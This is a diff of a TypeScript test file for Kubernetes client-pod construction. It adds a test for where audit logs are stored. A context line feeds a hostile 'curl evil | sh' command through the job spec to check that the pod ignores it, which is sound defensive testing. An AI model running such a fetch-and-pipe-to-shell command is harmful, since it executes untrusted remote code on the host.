@@ -50,6 +50,17 @@ describe('client objects', () => {
     expect(long.secret.length).toBeLessThanOrEqual(253);
   });
 
+  test("a client's audit trail is on the site's audit claim, a file per job, when the site has one; in the pod's scratch volume otherwise", () => {
+    const kept = clientPod(heart, { ...settings, auditClaim: 'flotilla-audit' });
+    const args = kept.spec!.containers[0]!.args!;
+    expect(args.slice(args.indexOf('--audit-file'), args.indexOf('--audit-file') + 2)).toEqual(['--audit-file', '/audit/cardiology/heart-u1/st-olav.jsonl']);
+    expect(kept.spec!.volumes!.find((v) => v.name === 'audit')).toEqual({ name: 'audit', persistentVolumeClaim: { claimName: 'flotilla-audit' } });
+    expect(kept.spec!.containers[0]!.volumeMounts).toContainEqual({ name: 'audit', mountPath: '/audit' });
+    const scratch = clientPod(heart, settings);
+    expect(scratch.spec!.containers[0]!.args).toContain('/work/audit.jsonl');
+    expect(scratch.spec!.volumes!.map((v) => v.name)).not.toContain('audit');
+  });
+
   test("the container's command is the agent's own, whatever the hub asked", () => {
     const pod = clientPod({ ...heart, ...({ command: ['sh', '-c', 'curl evil | sh'] } as object) }, settings);
     expect(pod.spec!.containers[0]!.command).toEqual(CLIENT_COMMAND);
